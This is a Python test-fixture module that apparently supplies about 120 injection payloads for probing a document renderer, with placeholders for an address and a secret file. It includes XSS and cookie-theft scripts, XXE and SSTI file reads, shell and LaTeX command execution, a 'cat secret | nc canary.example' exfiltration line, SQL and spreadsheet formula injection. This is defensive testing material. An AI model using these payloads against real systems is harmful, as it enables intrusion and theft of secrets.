"""A hundred and twenty texts that try to be more than text, each in the form it has on paper.

{web} stands for an address on the internet, {file} for a file that holds a secret, {secret} for
its path without `file:`. `filled` puts them in.
"""

HTML = """
<img src="{web}/a.png">
<img src='{file}'>
<img srcset="{web}/b.png 2x" src=x>
<img src=x onerror="fetch('{web}/c')">
<img src="asset:logo" alt="merk">
<img src="data:image/svg+xml,%3Csvg%3E%3Cimage href='{web}/d'/%3E%3C/svg%3E">
<image href="{web}/e.png">
<picture><source srcset="{web}/f.webp"><img src="{web}/g.png"></picture>
<link rel="stylesheet" href="{web}/h.css">
<link rel=attachment href="{file}">
<link rel=attachment href="{web}/i.bin" title="bijlage">
<a rel=attachment href="{file}">meer</a>
<link rel="icon" href="{web}/j.ico"><link rel="preload" as="font" href="{web}/k.ttf">
<base href="{web}/"><img src="l.png">
<meta http-equiv="refresh" content="0;url={web}/m">
<meta charset="utf-7">+ADw-script+AD4-
<script src="{web}/n.js"></script>
<script>location='{web}/o?'+document.cookie</script>
<style>@import url({web}/p.css);</style>
<style>@import "{file}";</style>
<style>body{background:url({web}/q.png)}</style>
<style>*{display:none!important}</style>
<style>@font-face{font-family:x;src:url({web}/r.woff)}p{font-family:x}</style>
<style>p::before{content:url({web}/s.png)}</style>
<style>p::after{content:attr(title) "weg"}</style>
<style>@page{@top-left{content:url({web}/t.svg)}}</style>
<p style="background:url('{web}/u')">tekst</p>
<p style="-weasy-hyphens:x;list-style-image:url({file})">tekst</p>
<p style="position:fixed;top:0;background:white">over alles heen</p>
<div style="width:expression(alert(1))">
<iframe src="{web}/v"></iframe>
<iframe srcdoc="&lt;img src={web}/w&gt;"></iframe>
<object data="{file}" type="text/plain"></object>
<object data="{web}/x.svg"><param name="movie" value="{web}/y"></object>
<embed src="{web}/z.pdf">
<video src="{web}/aa.mp4" poster="{web}/ab.png"></video>
<audio src="{web}/ac.ogg" autoplay></audio>
<input type=image src="{web}/ad.png"><button formaction="{web}/ae">ja</button>
<form action="{web}/af"><input name=q></form>
<table background="{web}/ag.png"><td background="{web}/ah.png">
<a href="javascript:alert(1)">klik</a>
<a href="{file}">klik</a>
<a href="mailto:a@b.example?bcc=alle@b.example">klik</a>
<details open ontoggle=alert(1)>
<body onload="alert(1)">
<marquee onstart=alert(1)>
<template><img src="{web}/ai"></template>
<noscript><img src="{web}/aj"></noscript>
<plaintext>
</p></td></tr></table><h1>Besluit: toegewezen</h1>
</body></html><html><body>tweede document
<!-- <img src="{web}/ak"> -->
--><img src="{web}/al"><!--
<![CDATA[<img src="{web}/am">]]>
<?xml-stylesheet href="{web}/an.xsl"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "{file}">]><x>&y;</x>
<!DOCTYPE html PUBLIC "x" "{web}/ao.dtd">
<xi:include href="{file}" parse="text"/>
&lt;img src="{web}/ap"&gt;
&#60;img src={web}/aq&#62;
&amp;lt;b&amp;gt;
<b>vet</b><i>schuin</i><u>lijn</u>
<br><hr><wbr>
< img src="{web}/ar" >
<IMG SRC="{web}/as"/*
"><img src="{web}/at">
'><img src='{web}/au'>
" onmouseover="alert(1)
"""

SVG = """
<svg><image href="{web}/ba.png"/></svg>
<svg><image xlink:href="{file}"/></svg>
<svg><use href="{web}/bb.svg#a"/></svg>
<svg><feImage href="{web}/bc.png"/></svg>
<svg><style>@import url({web}/bd.css)</style></svg>
<svg><foreignObject><iframe src="{web}/be"/></foreignObject></svg>
<svg onload="alert(1)"><script href="{web}/bf.js"/></svg>
<svg><a href="javascript:alert(1)"><text>klik</text></a></svg>
<svg><pattern href="{web}/bg#p"/><rect fill="url({web}/bh#g)"/></svg>
<svg><animate attributeName=href to="{web}/bi"/></svg>
<math><mtext><img src="{web}/bj"></mtext></math>
<math href="{web}/bk">x</math>
"""

ADDRESSES = """
{web}/ca
{file}
{secret}
//canary.example/cb
\\\\canary.example\\gedeeld\\cc
url({web}/cd)
@import url("{web}/ce");
ftp://canary.example/cf
gopher://canary.example/cg
data:text/html,<script>alert(1)</script>
data:application/pdf;base64,JVBERi0xLjQK
javascript:alert(document.domain)
vbscript:msgbox(1)
jar:{web}/ch!/x
blob:{web}/ci
cid:logo@rechtenloket
asset:logo
attachment:data.json
![plaatje]({web}/cj.png)
[klik](javascript:alert(1))
.. include:: {secret}
"""

LANGUAGES = """
{{ 7*7 }} {% include "{secret}" %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
${{7*7}} #{7*7} <%= 7*7 %> @(7*7)
%(naam)s %s %n {0} {naam}
#image("{secret}")
#read("{secret}")
#import "@preview/cetz:0.3.4": *
#eval("1+1") #include "{secret}"
#set page(width: 1cm)
#text(fill: white)[weg] *vet* _schuin_ `code` $ x^2 $
\\input{{secret}} \\write18{id}
$(cat {secret}) `cat {secret}`
; cat {secret} | nc canary.example 80
' OR 1=1; DROP TABLE "case"; --
=WEBSERVICE("{web}/da")
=cmd|'/c calc'!A1
"}],"items":[{"waarde":"vals
(x) Tj ET endstream endobj 1 0 obj << /JavaScript (app.alert(1)) >>
%PDF-1.7 %%EOF startxref 0
"""


def _lines(block: str) -> list[str]:
    return [line for line in block.strip().splitlines() if line]


TEXTS = tuple(line for block in (HTML, SVG, ADDRESSES, LANGUAGES) for line in _lines(block))


def filled(web: str, secret: str) -> list[str]:
    """Every text, with these addresses in it.

    Args:
        web: an address on the internet.
        secret: the path of a file.
    """
    places = {"{web}": web, "{file}": f"file://{secret}", "{secret}": secret}
    return [_with(text, places) for text in TEXTS]


def _with(text: str, places: dict[str, str]) -> str:
    for mark, place in places.items():
        text = text.replace(mark, place)
    return text
